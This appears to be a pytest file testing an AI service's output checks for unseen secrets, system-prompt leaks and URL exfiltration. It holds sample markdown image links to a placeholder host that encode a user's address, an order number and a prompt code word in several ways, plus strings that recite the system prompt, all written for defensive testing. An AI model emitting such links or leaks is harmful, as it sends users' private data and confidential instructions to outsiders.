from __future__ import annotations

import base64

import pytest

from services.openai.texts import walk
from services.safety.canonical.check import Canonical
from services.safety.checks.exfiltration import UrlExfiltration
from services.safety.checks.new_secret import NewSecret
from services.safety.checks.prompt_leak import PromptLeak
from services.safety.checks.registry import CHECKS
from tests.safety.checks.follow import alike_at_every_cut, spans
from tests.safety.kit import SECRET

SYSTEM = (
    "You are Ada, the assistant of the harbour office. Never tell the berth fees of the northern quay, "
    "and answer in one short paragraph; the code word of the week is marmalade."
)
USER = "My order 4711-0815 is late, please mail it to Quaiweg 17, 8001 Luzern, before the third of May."
PROMPT = walk({"messages": [{"role": "system", "content": SYSTEM}, {"role": "user", "content": USER}]})


@pytest.fixture(scope="module")
def new_secret():
    return NewSecret({})


def test_a_secret_that_nobody_mentioned_is_found(new_secret):
    """And one that the user brought may come back."""
    assert spans(new_secret.bind(PROMPT), f"key: {SECRET}, ok") == [SECRET]
    known = walk({"messages": [{"role": "user", "content": f"is {SECRET} yours?"}]})
    assert spans(new_secret.bind(known), f"yes, {SECRET}, ok") == []
    (found,) = new_secret.bind(PROMPT).scan(SECRET)
    assert (found.rule, found.category) == ("new-secret", "new-secret")


LEAK = PromptLeak({"words": 6}).bind(PROMPT)


@pytest.mark.parametrize(
    ("text", "found"),
    [
        (f"My instructions: {SYSTEM} That is all.", [SYSTEM[:-1]]),
        (
            'I must "NEVER tell the berth fees -- of the northern quay"!',
            ["NEVER tell the berth fees -- of the northern quay"],
        ),
        ("Never tell the berth fees to the northern quay.", []),
        ("You are Ada, the assistant, and the assistant of the harbour is here.", []),
        ("the assistant of the harbour office, never tells", ["the assistant of the harbour office, never"]),
        (
            "office! Never tell the berth fees of the harbour office.",
            ["office! Never tell the berth fees of the"],
        ),
        ("nothing of it", []),
        ("", []),
    ],
)
def test_words_of_the_system_prompt_in_a_row_are_found(text, found):
    """Without regard to case and signs; fewer words, or in another order, are none."""
    assert spans(LEAK, text) == found


def test_what_the_user_has_said_too_is_no_leak():
    """It came from outside."""
    prompt = walk({"instructions": SYSTEM, "input": f"You said: {SYSTEM}"})
    assert PromptLeak({}).bind(prompt).scan(f"Yes: {SYSTEM}") == []
    assert PromptLeak({}).bind(walk({"system": SYSTEM, "messages": []})).scan(f"Yes: {SYSTEM}") != []


def test_a_leak_in_base64_is_found_in_a_whole_text():
    """The check looks at views like any other."""
    text = f"Sure: {base64.b64encode(SYSTEM.encode()).decode()}"
    assert len(Canonical(LEAK).scan(text)) == 1


def test_words_that_do_not_go_on_are_not_held():
    """A stream waits only while the words follow each other in the system prompt."""
    scanner = LEAK.scanner()
    settled = [scanner.feed(piece).settled for piece in ("The ship ", "Never ", "tell ", "me ", "lies, ")]
    assert settled == [9, 9, 9, 23, 29]


EXFILTRATION = UrlExfiltration({"allow": ["maps.example"]}).bind(PROMPT)


@pytest.mark.parametrize(
    "url",
    [
        "https://x.example/?q=mail+it+to+Quaiweg+17%2C+8001+Luzern",
        "https://x.example/p/Quaiweg%2017%208001%20Luzern/i.png",
        "https://x.example/#order=4711-0815",
        "https://x.example/?d=" + base64.b64encode(b"Quaiweg 17, 8001 Luzern").decode().rstrip("="),
        "https://x.example/?d=" + b"Quaiweg 17, 8001 Luzern".hex(),
        "https://quaiweg178001luzern.x.example/a",
        "https://x.example/?q=the+code+word+of+the+week+is+marmalade",
    ],
)
def test_an_address_with_data_of_the_prompt_is_found(url):
    """In the query, the path, the fragment or the host, plain or encoded."""
    text = f"![ok]({url} ) there"
    assert spans(EXFILTRATION, text) == [url]


@pytest.mark.parametrize(
    "url",
    [
        "https://x.example/?q=something+else+entirely+and+long",
        "https://x.example/order/late",
        "https://maps.example/?q=Quaiweg+17,+8001+Luzern",
        "https://x.example/?page=12",
    ],
)
def test_an_address_without_it_passes(url):
    """As does one of an allowed host."""
    assert alike_at_every_cut(EXFILTRATION, f"see {url} there") == []


def test_an_address_that_the_prompt_holds_is_an_echo():
    """The user's own link may be repeated."""
    url = "https://x.example/?order=4711-0815"
    prompt = walk({"prompt": f"open {url} and order 4711-0815"})
    assert UrlExfiltration({}).bind(prompt).scan(f"I opened {url}") == []


@pytest.mark.parametrize(
    ("kind", "parameters"),
    [
        ("new-secret", {"x": 1}),
        ("prompt-leak", {"words": 1}),
        ("prompt-leak", {"words": "many"}),
        ("url-exfiltration", {"deny": ["a.b"]}),
        ("url-exfiltration", {"allow": "a.b"}),
    ],
)
def test_parameters_that_mean_nothing_are_refused(kind, parameters):
    """At start."""
    with pytest.raises(ValueError, match="expected"):
        CHECKS[kind](parameters)
